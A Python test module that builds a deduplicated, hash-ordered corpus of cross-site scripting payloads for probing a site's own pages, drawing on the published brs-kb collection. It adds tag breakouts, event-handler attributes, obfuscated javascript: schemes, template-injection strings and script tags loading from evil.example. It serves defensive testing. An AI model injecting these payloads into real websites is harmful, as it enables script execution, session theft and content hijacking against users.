"""Texts made to run in a browser: a published collection, and what our own pages would be open to.

The collection is brs-kb (MIT): what scanners, cheat sheets, contests and reports of sixteen years
have gathered. To it come vectors for the contexts that this site has: element, attribute in either
quote, address, JSON in a script, template.
"""

from collections.abc import Iterator
from functools import cache
from hashlib import sha256
from itertools import product

from brs_kb.payloads import get_all_payloads

RUN = "alert(1)"
_WAYS_OUT = ("", '">', "'>", "</script>", "</textarea>", "</title>", "</template>", "-->", "]]>")
_ELEMENTS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<details open ontoggle={RUN}>x", f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<math><mtext><img src=x onerror={RUN}>",
    f"<iframe src=javascript:{RUN}>", f"<object data=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>", f"<form><button formaction=javascript:{RUN}>x",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<script src=//evil.example/x.js></script>",
    f"<x tabindex=1 autofocus onfocus={RUN} id=x>",
    f"<template shadowrootmode=open><svg onload={RUN}>",
)  # fmt: skip
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", " javascript:",
            "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,<script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//", "blob:",
            "view-source:javascript:", "//evil.example/", "\\\\evil.example/",
            "https:evil.example/")  # fmt: skip
_ATTRIBUTES = tuple(
    f"{quote}{gap}{event}={RUN} x={quote}"
    for quote, gap, event in product(
        ('"', "'", "`", ""), (" ", "/", "\n", "\f"), ("onmouseover", "onfocus autofocus", "onerror")
    )
)
_TEMPLATES = ("{{7*7}}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{7*7}",
              "{% print(7*7) %}", "<%= 7*7 %>", "%0a<script>alert(1)</script>",
              "&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
              "\u2028alert(1)\u2029", "\\u003cimg src=x onerror=alert(1)\\u003e",
              "﹤script﹥alert(1)", "＜img src=x onerror=alert(1)＞",
              "+ADw-script+AD4-alert(1)")  # fmt: skip


def _ours() -> Iterator[str]:
    yield from map("".join, product(_WAYS_OUT, _ELEMENTS))
    yield from (scheme + RUN for scheme in _SCHEMES)
    yield from _ATTRIBUTES
    yield from _TEMPLATES


@cache
def everything() -> tuple[str, ...]:
    """All of them, each once, in an order that is the same everywhere."""
    published = (entry.payload for entry in get_all_payloads().values())
    return tuple(sorted({*published, *_ours()}, key=_digest))


def some(one_of: int) -> tuple[str, ...]:
    """One of so many, chosen by digest."""
    return tuple(text for text in everything() if int(_digest(text)[:8], 16) % one_of == 0)


def _digest(text: str) -> str:
    return sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def packed(texts: tuple[str, ...], longest: int, between: str = "\n") -> list[str]:
    """Put several into one text, so that it has no more characters than a field takes.

    What is longer by itself is cut: it stands in the fields that take more.
    """
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + len(between) + len(text) <= longest:
            packs[-1] += between + text
        else:
            packs.append(text[:longest])
    return packs
